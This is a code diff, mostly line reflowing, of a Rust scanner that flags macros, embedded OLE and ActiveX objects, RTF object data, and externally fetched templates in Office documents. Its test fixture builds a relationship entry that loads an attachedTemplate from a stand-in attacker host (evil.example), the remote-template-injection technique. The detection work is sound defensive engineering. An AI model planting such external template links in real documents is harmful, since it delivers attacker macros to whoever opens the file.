@@ -14,25 +14,39 @@ const ENTRIES: usize = 5_000;
 
 /// A document of today: a zip with `[Content_Types].xml`.
 pub(super) fn ooxml(inspection: &mut Inspection<'_>, place: &str, archive: &mut ZipArchive<Cursor<&[u8]>>) {
-    let names: Vec<String> = archive.file_names().take(ENTRIES).filter_map(|name| name.ok().map(std::borrow::Cow::into_owned)).collect();
+    let names: Vec<String> = archive
+        .file_names()
+        .take(ENTRIES)
+        .filter_map(|name| name.ok().map(std::borrow::Cow::into_owned))
+        .collect();
     for name in names {
         let lower = name.to_ascii_lowercase();
         let last = lower.rsplit('/').next().unwrap_or_default();
         if last.starts_with("vbaproject") || lower.contains("xl/macrosheets/") {
             inspection.findings.add(catalogue::FILE_MACRO, &name, place);
-        } else if lower.contains("/embeddings/") && last.starts_with("oleobject") || lower.contains("/activex/") {
+        } else if lower.contains("/embeddings/") && last.starts_with("oleobject")
+            || lower.contains("/activex/")
+        {
             inspection.findings.add(catalogue::FILE_OBJECT, &name, place);
         } else if lower.ends_with(".rels") {
             relations(inspection, place, &name, archive);
-        } else if lower.contains("/media/") && ["png", "jpg", "jpeg", "gif"].contains(&super::ending(&lower).as_str()) {
+        } else if lower.contains("/media/")
+            && ["png", "jpg", "jpeg", "gif"].contains(&super::ending(&lower).as_str())
+        {
             picture(inspection, place, &name, archive);
         }
     }
 }
 
-fn relations(inspection: &mut Inspection<'_>, place: &str, name: &str, archive: &mut ZipArchive<Cursor<&[u8]>>) {
+fn relations(
+    inspection: &mut Inspection<'_>,
+    place: &str,
+    name: &str,
+    archive: &mut ZipArchive<Cursor<&[u8]>>,
+) {
     let mut xml = String::new();
-    let read = archive.by_name(name).is_ok_and(|entry| entry.take(RELATIONS_BYTES).read_to_string(&mut xml).is_ok());
+    let read =
+        archive.by_name(name).is_ok_and(|entry| entry.take(RELATIONS_BYTES).read_to_string(&mut xml).is_ok());
     inspection.budget.unpacked(xml.len());
     if !read {
         return;
@@ -44,7 +58,8 @@ fn relations(inspection: &mut Inspection<'_>, place: &str, name: &str, archive: 
         };
         let (kind, target) = (value("Type").unwrap_or_default(), value("Target").unwrap_or_default());
         let outside = value("TargetMode").is_some_and(|mode| mode.eq_ignore_ascii_case("external"));
-        let fetched = ["attachedTemplate", "frame", "oleObject", "subDocument"].iter().any(|end| kind.ends_with(end));
+        let fetched =
+            ["attachedTemplate", "frame", "oleObject", "subDocument"].iter().any(|end| kind.ends_with(end));
         if outside && fetched && target.contains("://") {
             inspection.findings.add(catalogue::FILE_TEMPLATE, &target, place);
         } else if outside && kind.ends_with("hyperlink") {
@@ -53,7 +68,12 @@ fn relations(inspection: &mut Inspection<'_>, place: &str, name: &str, archive: 
     }
 }
 
-fn picture(inspection: &mut Inspection<'_>, place: &str, name: &str, archive: &mut ZipArchive<Cursor<&[u8]>>) {
+fn picture(
+    inspection: &mut Inspection<'_>,
+    place: &str,
+    name: &str,
+    archive: &mut ZipArchive<Cursor<&[u8]>>,
+) {
     let most = readable(inspection.budget);
     let mut bytes = Vec::new();
     if archive.by_name(name).is_ok_and(|entry| entry.take(most).read_to_end(&mut bytes).is_ok()) {
@@ -65,7 +85,11 @@ fn picture(inspection: &mut Inspection<'_>, place: &str, name: &str, archive: &m
 /// A document, message or installer of the older kind.
 pub(super) fn ole(inspection: &mut Inspection<'_>, place: &str, bytes: &[u8]) {
     let Ok(file) = cfb::CompoundFile::open(Cursor::new(bytes)) else {
-        inspection.findings.blinded("document", "壊れた文書があり、中身を確認していません。", "A broken document could not be opened.");
+        inspection.findings.blinded(
+            "document",
+            "壊れた文書があり、中身を確認していません。",
+            "A broken document could not be opened.",
+        );
         return;
     };
     // An installer shows itself by the class of its root (MS-OLEPS).
@@ -74,7 +98,9 @@ pub(super) fn ole(inspection: &mut Inspection<'_>, place: &str, bytes: &[u8]) {
     }
     for entry in file.walk().take(ENTRIES) {
         match entry.name() {
-            "VBA" | "_VBA_PROJECT_CUR" | "Macros" => inspection.findings.add(catalogue::FILE_MACRO, entry.name(), place),
+            "VBA" | "_VBA_PROJECT_CUR" | "Macros" => {
+                inspection.findings.add(catalogue::FILE_MACRO, entry.name(), place);
+            }
             "EncryptedPackage" => inspection.locked(place),
             "\u{1}Ole10Native" => inspection.findings.add(catalogue::FILE_OBJECT, "Ole10Native", place),
             _ => {}
@@ -84,7 +110,8 @@ pub(super) fn ole(inspection: &mut Inspection<'_>, place: &str, bytes: &[u8]) {
 
 /// Rich text with an object inside runs it through old programs.
 pub(super) fn rtf(inspection: &mut Inspection<'_>, place: &str, bytes: &[u8]) {
-    if bytes.windows(8).any(|w| w.eq_ignore_ascii_case(b"\\objdata") || w.eq_ignore_ascii_case(b"\\objupda")) {
+    if bytes.windows(8).any(|w| w.eq_ignore_ascii_case(b"\\objdata") || w.eq_ignore_ascii_case(b"\\objupda"))
+    {
         inspection.findings.add(catalogue::FILE_OBJECT, "objdata", place);
     }
 }
@@ -108,7 +135,10 @@ mod tests {
         let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
         for (name, text) in [
             ("[Content_Types].xml", "<Types/>"),
-            ("word/_rels/settings.xml.rels", r#"<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#),
+            (
+                "word/_rels/settings.xml.rels",
+                r#"<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
+            ),
         ] {
             writer.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
             writer.write_all(text.as_bytes()).unwrap();
